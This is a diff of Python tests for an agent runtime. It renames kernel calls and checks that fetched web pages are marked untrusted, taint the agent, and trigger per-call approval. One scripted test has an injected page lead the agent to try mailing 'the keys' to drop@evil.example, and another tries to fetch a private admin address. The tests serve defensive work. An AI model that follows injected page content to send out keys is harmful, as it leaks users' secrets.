@@ -37,8 +37,8 @@ def make(make_env, outbox: list[dict[str, Any]], **settings):
 
 
 async def _send(env, agent_id: str, text: str):
-    env.kernel.send(agent_id, text)
-    return await env.kernel.wait(agent_id)
+    env.kernel.agents.send(agent_id, text)
+    return await env.kernel.agents.wait(agent_id)
 
 
 def test_an_http_error_page_is_wrapped_recorded_and_taints_like_a_page(make_env):
@@ -46,9 +46,9 @@ def test_an_http_error_page_is_wrapped_recorded_and_taints_like_a_page(make_env)
     with WebFake() as fake:
         env = make(make_env, outbox, web_allow_private=True)
         url = fake.url("/injected-500")
-        a = env.kernel.spawn("reader")
-        env.kernel.grant_lease(a.id, "net.fetch", 300)
-        env.kernel.grant_lease(a.id, "mail.send", 3600)
+        a = env.kernel.agents.spawn("reader")
+        env.kernel.leases.grant(a.id, "net.fetch", 300)
+        env.kernel.leases.grant(a.id, "mail.send", 3600)
         env.approver.will(DENY)
         env.provider.script(reply(tools=(("web_fetch", {"url": url}),)),
                             reply(tools=(("send_note", {"to": "drop@evil.example", "text": "the keys"}),)),
@@ -70,7 +70,7 @@ def test_an_http_error_page_is_wrapped_recorded_and_taints_like_a_page(make_env)
     inner = seen.content.split("\n", 1)[1].rsplit("\n", 1)[0].replace("\u2039/untrusted", "</untrusted")
     assert entry.source == f"web_fetch {url}" and entry.sha256 == hashlib.sha256(inner.encode()).hexdigest()
     # and the agent is tainted: the R3 call asks one at a time though a lease is live, naming the address
-    assert env.kernel.agent(a.id).tainted == f"read untrusted content from web_fetch {url}"
+    assert env.kernel.agents.get(a.id).tainted == f"read untrusted content from web_fetch {url}"
     [req] = env.approver.requests
     assert req.once and req.scope == "mail.send" and "drop@evil.example" in req.highlights
     assert outbox == []
@@ -79,8 +79,8 @@ def test_an_http_error_page_is_wrapped_recorded_and_taints_like_a_page(make_env)
 def test_local_refusals_stay_plain_and_do_not_taint(make_env):
     outbox: list = []
     env = make(make_env, outbox)  # private addresses refused (Settings' default)
-    a = env.kernel.spawn("reader")
-    env.kernel.grant_lease(a.id, "net.fetch", 300)
+    a = env.kernel.agents.spawn("reader")
+    env.kernel.leases.grant(a.id, "net.fetch", 300)
     env.provider.script(reply(tools=(("web_fetch", {"url": "http://10.1.2.3/admin"}),
                                      ("web_fetch", {"url": "ftp://files.example/x"}),
                                      ("web_fetch", {"uri": "https://x.example"}))),
@@ -91,19 +91,19 @@ def test_local_refusals_stay_plain_and_do_not_taint(make_env):
     assert scheme.is_error and scheme.content.startswith("only http and https URLs")
     assert schema.is_error and "<untrusted" not in schema.content
     assert env.ledger.page(kind="untrusted") == []
-    assert env.kernel.agent(a.id).tainted == ""  # not tainted
+    assert env.kernel.agents.get(a.id).tainted == ""  # not tainted
 
 
 def test_a_denied_lease_is_plain_too(make_env):
     outbox: list = []
     env = make(make_env, outbox, web_allow_private=True)
-    a = env.kernel.spawn("reader")
+    a = env.kernel.agents.spawn("reader")
     env.approver.will(DENY)
     env.provider.script(reply(tools=(("web_fetch", {"url": "https://x.example/"}),)), reply("done"))
     run(_send(env, a.id, "read"))
     [denied] = results_seen(env.provider, 1)
     assert denied.is_error and "<untrusted" not in denied.content
-    assert env.kernel.agent(a.id).tainted == ""  # not tainted
+    assert env.kernel.agents.get(a.id).tainted == ""  # not tainted
 
 
 def test_mail_errors_quoting_the_server_carry_a_source_and_local_ones_do_not():
